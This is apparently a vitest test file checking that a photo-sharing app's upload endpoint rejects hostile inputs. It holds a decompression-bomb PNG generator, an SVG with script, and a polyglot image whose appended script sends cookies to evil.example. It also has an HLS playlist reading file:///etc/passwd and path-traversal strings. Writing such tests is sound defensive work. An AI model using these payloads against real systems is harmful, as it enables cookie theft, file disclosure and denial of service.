import { sql } from 'kysely'
import fs from 'node:fs'
import os from 'node:os'
import zlib from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { RateLimits } from '../../platform/rate-limits.ts'
import * as shareHttp from '../roam-share/http.ts'
import { UPLOADS_PER_USER } from '../roam-share/post-form.ts'
import { blob, shareHarness, testPhoto, testVideo } from '../roam-share/test-support.ts'
import * as mediaHttp from './http.ts'
import { forgeMp4Duration } from './test-media.ts'

const app = await shareHarness()
const { call } = app
const ana = await app.member('ana_bad_input')

/** A real PNG of width × height, 1-bit grey: tiny on disk, a pixel bomb once decoded. */
function pixelBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const crc = Buffer.alloc(4)
    crc.writeUInt32BE(zlib.crc32(body))
    return Buffer.concat([length, body, crc])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const row = Math.ceil(width / 8) + 1
  const pixels = zlib.deflateSync(Buffer.alloc(row * height), { level: 9 })
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const fields = { caption: 'Bad input', location: 'Lisbon', tags: JSON.stringify(['tourism']), post_type: 'photo' }
const eventCount = async () => Number((await sql<{ n: number }>`SELECT count(*)::int AS n FROM events`.execute(app.db)).rows[0]!.n)

/** Posts a form and checks that it is refused with `status` and a message, leaving no file and no event behind. */
async function refused(form: FormData, status: number, message: RegExp) {
  const events = await eventCount()
  const files = app.storedFiles()
  const answer = await call(shareHttp.handleCreatePost, '/api/roam-share-posts', { token: ana.token, form })
  expect(answer.status).toBe(status)
  expect(answer.body.error).toMatch(message)
  expect(await eventCount()).toBe(events)
  expect(app.storedFiles()).toEqual(files)
  return answer
}

const photoForm = (files: { blob: Blob; name: string }[], overrides: Record<string, string> = {}) =>
  app.postForm(
    { ...fields, ...overrides },
    files.map((file) => ({ field: 'images', ...file })),
  )

describe('uploads that are refused, with nothing written', () => {
  it('a text file claiming to be a JPEG', async () => {
    await refused(photoForm([{ blob: blob('just some text, not an image', 'image/jpeg'), name: 'a.jpg' }]), 415, /Only JPEG, PNG, WebP or AVIF photos/)
  })

  it('a PNG declared as a JPEG, and a video declared as a photo', async () => {
    await refused(photoForm([{ blob: blob(await testPhoto(100, 100, 'png'), 'image/jpeg'), name: 'a.jpg' }]), 415, /does not match its declared type/)
    const clip = fs.readFileSync(testVideo(app.workDir, 1))
    await refused(photoForm([{ blob: blob(clip, 'image/jpeg'), name: 'a.jpg' }]), 415, /Only JPEG, PNG, WebP or AVIF photos/)
  })

  it('an SVG', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'
    await refused(photoForm([{ blob: blob(svg, 'image/svg+xml'), name: 'a.svg' }]), 415, /Only JPEG, PNG, WebP or AVIF photos/)
  })

  it('an image with a script appended', async () => {
    const polyglot = Buffer.concat([await testPhoto(200, 200), Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')])
    await refused(photoForm([{ blob: blob(polyglot, 'image/jpeg'), name: 'a.jpg' }]), 415, /embedded script or markup/)
  })

  it('a 20 000 × 20 000 PNG', async () => {
    await refused(photoForm([{ blob: blob(pixelBomb(20_000, 20_000), 'image/png'), name: 'bomb.png' }]), 422, /too large \(at most 50 megapixels\)/)
  })

  it('eleven photos', async () => {
    const photo = blob(await testPhoto(64, 64), 'image/jpeg')
    await refused(photoForm(Array.from({ length: 11 }, (_, i) => ({ blob: photo, name: `${i}.jpg` }))), 400, /at most 10/)
  })

  it('photos and a video together', async () => {
    const form = photoForm([{ blob: blob(await testPhoto(64, 64), 'image/jpeg'), name: 'a.jpg' }])
    form.append('video', blob(fs.readFileSync(testVideo(app.workDir, 1)), 'video/mp4'), 'clip.mp4')
    await refused(form, 400, /either photos or one video/)
  })

  it('a video of 181 seconds', async () => {
    const long = testVideo(app.workDir, 181, { name: 'long.mp4' })
    const form = app.postForm({ ...fields, post_type: 'video' }, [{ field: 'video', blob: blob(fs.readFileSync(long), 'video/mp4'), name: 'long.mp4' }])
    await refused(form, 422, /^Video must be less than or equal to 3 minutes\.$/)
  })

  it('a video of 181 seconds whose headers claim 10', async () => {
    const long = testVideo(app.workDir, 181, { name: 'forged.mp4' })
    forgeMp4Duration(long, 10)
    const form = app.postForm({ ...fields, post_type: 'video' }, [{ field: 'video', blob: blob(fs.readFileSync(long), 'video/mp4'), name: 'forged.mp4' }])
    await refused(form, 422, /^Video must be less than or equal to 3 minutes\.$/)
  })

  it('a playlist disguised as an .mp4', async () => {
    const playlist = '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n'
    const form = app.postForm({ ...fields, post_type: 'video' }, [{ field: 'video', blob: blob(playlist, 'video/mp4'), name: 'clip.mp4' }])
    await refused(form, 415, /Only MP4, MOV or WebM videos/)
  })

  it('unknown tags, no tags, a missing location', async () => {
    const photo = { blob: blob(await testPhoto(64, 64), 'image/jpeg'), name: 'a.jpg' }
    await refused(photoForm([photo], { tags: JSON.stringify(['beaches', 'crypto']) }), 400, /Unknown tag: crypto/)
    await refused(photoForm([photo], { tags: '[]' }), 400, /^Please select at least one tag before posting\.$/)
    await refused(photoForm([photo], { location: ' ' }), 400, /^Location is required to share a post$/)
    await refused(photoForm([], {}), 400, /^At least one photo is required to share a post$/)
  })

  it('a 10 MB caption', async () => {
    await refused(
      photoForm([{ blob: blob(await testPhoto(64, 64), 'image/jpeg'), name: 'a.jpg' }], { caption: 'x'.repeat(10 * 1024 * 1024) }),
      413,
      /caption is too large/,
    )
  })

  it('a JSON body where an upload is expected', async () => {
    const events = await eventCount()
    const answer = await call(shareHttp.handleCreatePost, '/api/roam-share-posts', { token: ana.token, body: fields })
    expect(answer).toMatchObject({ status: 415, body: { error: 'Expected a multipart/form-data upload.' } })
    expect(await eventCount()).toBe(events)
  })

  it('more uploads in an hour than a member may send', async () => {
    const cy = await app.member('cy_uploads')
    await app.run(RateLimits.use((limits) => limits.consume(UPLOADS_PER_USER, cy.userId, UPLOADS_PER_USER.points)))
    const events = await eventCount()
    const answer = await call(shareHttp.handleCreatePost, '/api/roam-share-posts', {
      token: cy.token,
      form: photoForm([{ blob: blob(await testPhoto(64, 64), 'image/jpeg'), name: 'a.jpg' }]),
    })
    expect(answer).toMatchObject({ status: 429, body: { error: expect.stringMatching(/^Too many uploads\. Please try again in \d+ minutes\.$/) } })
    expect(Number(answer.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(await eventCount()).toBe(events)
    expect((await app.photoPost(ana.token)).status).toBe(201)
  })

  it('a path that leaves the uploads folder', async () => {
    for (const file of ['../../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', 'aaaaaaaaaaaaaaaaaaaaaaaa.svg', '.htaccess']) {
      const answer = await call(mediaHttp.handleUpload, '/uploads', { params: { folder: 'roam_share_posts', file } })
      expect(answer.status).toBe(404)
    }
    expect((await call(mediaHttp.handleUpload, '/uploads', { params: { folder: '..', file: 'passwd' } })).status).toBe(404)
  })

  it('leaves no temporary upload files behind', async () => {
    expect(fs.readdirSync(os.tmpdir()).filter((entry) => entry.startsWith('roam-upload-'))).toEqual([])
  })
})
